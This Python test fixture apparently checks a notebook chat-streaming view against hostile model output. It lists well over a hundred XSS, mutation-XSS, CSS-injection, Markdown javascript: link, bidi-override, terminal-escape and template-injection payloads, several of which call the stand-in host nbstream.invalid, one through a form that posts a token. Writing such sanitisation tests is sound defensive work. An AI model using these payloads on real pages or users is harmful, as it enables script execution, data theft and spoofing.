"""What a hostile model could say to get out of the view: the corpus of the tests.

Each text that was executed would set ``window.__hacked``, one that was loaded would ask
``nbstream.invalid`` for something. Nothing here may do either, anywhere.
"""

HOST = "nbstream.invalid"
URL = f"http://{HOST}"
HACK = "window.__hacked=true"

SCRIPTS = {
    "script": f"<script>{HACK}</script>",
    "script from elsewhere": f'<script src="{URL}/a.js"></script>',
    "script of a module": f'<script type="module">import "{URL}/m.js";{HACK}</script>',
    "script in odd case": f"<ScRiPt\t>{HACK}</sCrIpT \n>",
    "script with no end": f"<script>{HACK}//",
    "script cut in two": f"<scr<script>ipt>{HACK}</scr</script>ipt>",
    "script with a slash": f"<script/x>{HACK}</script/x>",
    "script in a NUL's company": f"<scr\0ipt>{HACK}</scr\0ipt>",
    "script out of a text area": f"</textarea><script>{HACK}</script><textarea>",
    "script out of a title": f"</title></head><body><script>{HACK}</script>",
    "script out of a pre": f"</code></pre></div></section><script>{HACK}</script>",
    "script out of a summary": f"</summary></details><script>{HACK}</script><details>",
    "script out of JSON": f'"}}</script><script>{HACK}</script>{{"',
    "script out of a comment": f"--><script>{HACK}</script><!--",
    "script out of CDATA": f"<![CDATA[><script>{HACK}</script>]]>",
    "script twice escaped": f"&lt;script&gt;{HACK}&lt;/script&gt;",
    "script as entities": f"&#60;script&#62;{HACK}&#60;/script&#62;",
    "script in full width": f"\uff1cscript\uff1e{HACK}\uff1c/script\uff1e",
    "script in a template": "<template><script>" + HACK + "</script></template>",
    "script in a shadow": f'<div><template shadowrootmode="open"><img src=x onerror="{HACK}">'
    "</template></div>",
}

HANDLERS = {
    "picture that fails": f'<img src=x onerror="{HACK}">',
    "picture with slashes": f"<img/src='x'/onerror={HACK}>",
    "picture with no end": f'<img src="x" onerror="{HACK}"',
    "picture with an unclosed quote": f'<img """><img src=x onerror={HACK}>"',
    "body": f"<body onload={HACK} onpageshow={HACK}>",
    "focus": f"<input autofocus onfocus={HACK}>",
    "toggle": f"<details open ontoggle={HACK}><summary>x</summary></details>",
    "video": f"<video><source onerror={HACK}></video>",
    "sound": f'<audio src="{URL}/a.mp3" autoplay onerror={HACK}></audio>',
    "marquee": f"<marquee onstart={HACK}>x</marquee>",
    "animation": f'<b style="animation:x 1ms" onanimationstart={HACK}>x</b>'
    f"<style>@keyframes x{{}}</style>",
    "pointer": f"<b onpointerover={HACK} onmouseover={HACK}>hover</b>",
    "scroll": f"<div onscrollend={HACK} style=overflow:auto><br></div>",
    "menu": f'<button popovertarget=p>x</button><div popover id=p onbeforetoggle="{HACK}"></div>',
    "out of a title attribute": f'" onmouseover="{HACK}" autofocus onfocus="{HACK}" x="',
    "out of a single quote": f"' onmouseover='{HACK}' tabindex=0 onfocus='{HACK}",
    "out of no quote": f"x onmouseover={HACK} style=position:fixed;inset:0",
    "out of a backquote": f"`` onmouseover={HACK} ``",
}

ELEMENTS = {
    "svg": f"<svg onload={HACK}><circle r=9></circle></svg>",
    "svg script": f"<svg><script>{HACK}</script></svg>",
    "svg animation": '<svg><a><animate attributeName=href values="javascript:' + HACK + '"/>'
    "<text x=9 y=20>click</text></a></svg>",
    "svg use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={HACK}></svg>#x"></use></svg>',
    "svg foreign": f'<svg><foreignObject><img src=x onerror="{HACK}"></foreignObject></svg>',
    "math": f'<math href="javascript:{HACK}">click</math>',
    "math action": f'<math><maction actiontype="statusline" xlink:href="javascript:{HACK}">x'
    "</maction></math>",
    "iframe": f'<iframe src="javascript:parent.{HACK.removeprefix("window.")}"></iframe>',
    "iframe with a document": '<iframe srcdoc="&lt;script&gt;parent.__hacked=true'
    '&lt;/script&gt;"></iframe>',
    "frames": f'<frameset onload={HACK}><frame src="{URL}/f"></frameset>',
    "object": f'<object data="data:text/html,<script>{HACK}</script>"></object>',
    "embed": f'<embed src="{URL}/e.swf" type="application/x-shockwave-flash">',
    "applet": f'<applet code="x" archive="{URL}/a.jar"></applet>',
    "base": f'<base href="{URL}/" target="_top">',
    "link": f'<link rel="stylesheet" href="{URL}/l.css">',
    "preload": f'<link rel="preload" as="image" href="{URL}/p.png">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={URL}/r">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'">',
    "form": f'<form action="{URL}/f"><input name=token><button autofocus>Go on</button></form>',
    "form action": f'<button formaction="javascript:{HACK}" form=x>Run</button><form id=x></form>',
    "clobbering": "<a id=defaultView name=body></a><form id=document name=cookie></form>",
    "import map": '<script type="importmap">{"imports":{"a":"' + URL + '/i.js"}}</script>',
    "custom element": f"<x-y is=script onclick={HACK}>x</x-y>",
    "picture set": f'<picture><source srcset="{URL}/s.png"><img src="{URL}/i.png"></picture>',
    "no script": f'<noscript><p title="</noscript><img src=x onerror={HACK}>"></noscript>',
    "plain text": "<plaintext>all that follows",
    "comment that hides": "<!-- the rest of the page is a comment",
}

STYLES = {
    "style": f"<style>*{{background:url({URL}/s.png)}}</style>",
    "style imported": f'<style>@import "{URL}/i.css";</style>',
    "style out of style": f"</style><script>{HACK}</script><style>",
    "style attribute": f'<p style="background-image:url({URL}/b.png);position:fixed;inset:0">x</p>',
    "style out of content": '"; } * { display: none !important; } x { content: "',
    "style with escapes": '\\22 ; } body { display: none } \\000022 \\a " \\',
    "style url": f'"url({URL}/c.png)" attr(title) counter(x)',
    "style end of line": '"\n; background: url(' + URL + "/n.png)\f\r;",
    "style expression": f"<p style=\"width:expression({HACK});-moz-binding:url('{URL}')\">x</p>",
    "style cover": '<div class="nbs-card jp-Dialog" style="position:fixed;inset:0">Log in</div>',
}

MUTATIONS = {
    "mutation by noembed": f'<noembed><img title="</noembed><img src=x onerror={HACK}>"></noembed>',
    "mutation by math style": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={HACK}&gt;">',
    "mutation by svg title": f'<svg></p><style><a id="</style><img src=1 onerror={HACK}>">',
    "mutation by form in form": "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    f"<path id=</style><img src onerror={HACK}>",
    "mutation by select": f"<select><template><style><!--</style><a rel=--></style><img src=x "
    f"onerror={HACK}></select>",
    "mutation by table": f"<table><tr><td><svg><desc><b></table><img src=x onerror={HACK}>",
    "mutation by annotation": '<math><annotation-xml encoding="text/html"><style><img src="'
    f'</style><img src=x onerror={HACK}>"></annotation-xml></math>',
    "mutation by xmp": f'<xmp><p title="</xmp><svg/onload={HACK}>">',
    "mutation by depth": "<div>" * 60 + f"<svg onload={HACK}>" + "</div>" * 60,
    "mutation by line ends": f"<a\rhref='x'\nonclick\f=\t{HACK}\r>click</a>",
}

MARKDOWN = {
    "md link": f"[click](javascript:{HACK})",
    "md link in odd case": f"[click](JaVaScRiPt:{HACK})",
    "md link by entities": f"[click](&#106;avascript&colon;{HACK})",
    "md link by hex entities": f"[click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72ipt:{HACK})",
    "md link with a tab": f"[click](<java\tscript:{HACK}>)",
    "md link with a control": f"[click](\x01javascript:{HACK})",
    "md link per cent": f"[click](javascript%3A{HACK})",
    "md link without scheme": f"[click](//{HOST}/x)",
    "md link that is empty": f"[](<javascript:{HACK}>)",
    "md link with a break": f"[click]( java\nscript:{HACK} )",
    "md vbscript": "[click](vbscript:msgbox(1))",
    "md data": f"[click](data:text/html;base64,PHNjcmlwdD57{HACK})",
    "md file": "[click](file:///etc/passwd) [and](blob:null/1) [so](view-source:x)",
    "md title": f'[click](http://{HOST}/x "\\" onmouseover=\\"{HACK}\\"")',
    "md title with tags": f'[click](http://{HOST}/x "</a><img src=x onerror={HACK}>")',
    "md text with tags": f"[<img src=x onerror={HACK}>](http://{HOST}/x)",
    "md in a link's address": f'[click](http://{HOST}/"onmouseover="{HACK})',
    "md reference": f"[click][ref]\n\n[ref]: javascript:{HACK} 'x'",
    "md reference to protos": "[a][__proto__] [b][constructor]\n\n[__proto__]: x\n",
    "md autolink": f"<javascript:{HACK}>",
    "md autolink with tags": f"<http://{HOST}/<script>{HACK}</script>>",
    "md bare address": f'http://{HOST}/"><script>{HACK}</script>',
    "md bare mail": f'x@{HOST}"onmouseover={HACK}',
    "md picture": f"![a picture](http://{HOST}/picture.png)",
    "md picture of data": f"![x](data:image/svg+xml,<svg onload={HACK}>)",
    "md picture of script": f"![x](javascript:{HACK})",
    "md picture with handler": f'![x" onerror="{HACK}](http://{HOST}/p.png)',
    "md picture in a link": f"[![x](http://{HOST}/l.png)](javascript:{HACK})",
    "md footnote": f"Text[^1]\n\n[^1]: <img src=x onerror={HACK}> [x](javascript:{HACK})",
    "md html block": f"<div>\n\n<img src=x onerror={HACK}>\n\n</div>",
    "md html comment": f"<!-- --!><img src=x onerror={HACK}> -->",
    "md out of a fence": f"```js\n</code></pre><script>{HACK}</script>\n```\n",
    "md language": f'```"><script>{HACK}</script>\nx\n```\n',
    "md fence that stays open": f"~~~html onload={HACK}\n<script>{HACK}</script>",
    "md code span": f"`<img src=x onerror={HACK}>`",
    "md table": f"|a|b|\n|-|:-:|\n|<img src=x onerror={HACK}>|[x](javascript:{HACK})|\n",
    "md task": f"- [x] <input onfocus={HACK} autofocus>\n- [ ] [x](vbscript:x)",
    "md heading": f"# <svg onload={HACK}> {{onclick={HACK}}}\n",
    "md maths": f"$\\href{{javascript:{HACK}}}{{x}}$ $$\\unicode{{<img src=x onerror={HACK}>}}$$",
    "md nested": "[" * 40 + "x" + "](javascript:" * 40 + HACK + ")" * 40,
}

UNSEEN = {
    "override": "\u202egnp.exe\u202d and on",
    "override left open": "name\u202etxt.exe",
    "embedding left open": "\u202b\u202aleft open",
    "isolate left open": "\u2067\u2066\u2068left open",
    "isolate closed too often": "\u2069\u2069\u202c\u202c\u2069 closed",
    "comment turned around": "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin */",
    "hebrew and arabic": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (1) <2>",
    "zero widths": "pass\u200bword\u200c\u200d\u2060\ufeff",
    "script in zero widths": f"<scr\u200bipt>{HACK}</scr\u200bipt>",
    "tag characters": "ok\U000e0068\U000e0069\U000e007f",
    "variation selectors": "a\ufe0f\ufe0e\U000e0100\U000e01ef",
    "stacked marks": "Z" + "\u0301\u0327\u0489" * 60 + "algo",
    "noncharacters": "\ufffe\uffff\U0001ffff\ufdd0",
    "separators": "one\u2028two\u2029three\x85four",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "NUL": f"a\0b<\0img src=x onerror={HACK}>",
    "terminal title": "\x1b]0;gotcha\x07\x1b[2J\x1b[31mred\x1b[0m",
    "terminal link": f"\x1b]8;;{URL}/t\x1b\\click\x1b]8;;\x1b\\",
    "terminal back": "safe\b\b\b\bevil\r\x1b[1Aover",
    "letters that look alike": "\u0430pple.com \u2024 \uff0e \u3002",
    "fillers": "\u3164\u115f\u1160\uffa0\u00ad\u034f\u180e",
    "one long word": "W" * 3000,
}

OTHERS = {
    "template words": "{{7*7}} ${" + HACK + "} <%= x %> #{x} {%raw%}",
    "prototype": '{"__proto__": {"__hacked": true}, "constructor": {"prototype": {}}}',
    "formula": '=HYPERLINK("' + URL + '","x")',
    "line of JSON": '"}\n{"kind":"error","data":{}}\n',
    "frame": '{"type":"frame","seq":0,"items":[]}',
    "js address": f"javascript:{HACK}",
    "js address on a new line": f"java\nscript:{HACK}",
}

HOSTILE = {
    **SCRIPTS,
    **HANDLERS,
    **ELEMENTS,
    **STYLES,
    **MUTATIONS,
    **MARKDOWN,
    **UNSEEN,
    **OTHERS,
}

LONE = "half of a fish: \ud83d"
"""A surrogate without its other half, as JSON can bring it. It cannot be written as UTF-8."""


def halves(text):
    """Split a text in two, as tokens do: in the middle."""
    middle = (len(text) + 1) // 2
    return [part for part in (text[:middle], text[middle:]) if part]


def speaker(text, *more):
    """Return a model that says a text wherever a model can say something."""
    from nbstream import AIMessageChunk, ScriptedChat

    def call(name, args):
        piece = {"name": name, "args": args, "id": text, "index": 0}
        return AIMessageChunk("", tool_call_chunks=[piece])

    chunks = [
        AIMessageChunk([{"type": "thinking", "thinking": text}]),
        *halves(text),
        call(text, '{"a": "'),
        call(None, text + '"}'),
        text,
        AIMessageChunk("", response_metadata={"stop_reason": text, text: text}),
        *more,
    ]
    return ScriptedChat(chunks, name=text)


def said(text):
    """Return what a speaker's text comes to."""
    return text + text


def failure(text):
    """Return an error that has a text for its name and for its message."""
    return type(text.replace("\0", ""), (ValueError,), {})(text)


def config(text):
    """Return what a run can be called with."""
    return {"tags": [text, f"{text} again"], "metadata": {text: text}, "run_name": text}


def everywhere(text):
    """Return a chain that says a text wherever one can, also as it fails, and its input."""
    from nbstream import RunnableLambda, StrOutputParser, dispatch_custom_event

    def tell(value):
        dispatch_custom_event(text, {text: [text, {"deep": text}]})
        return value

    def fail(value):
        raise failure(text)

    survive = RunnableLambda(fail).with_fallbacks([RunnableLambda(lambda value: value)])
    chain = RunnableLambda(tell) | speaker(text) | StrOutputParser() | survive
    return chain.with_config(config(text)), text
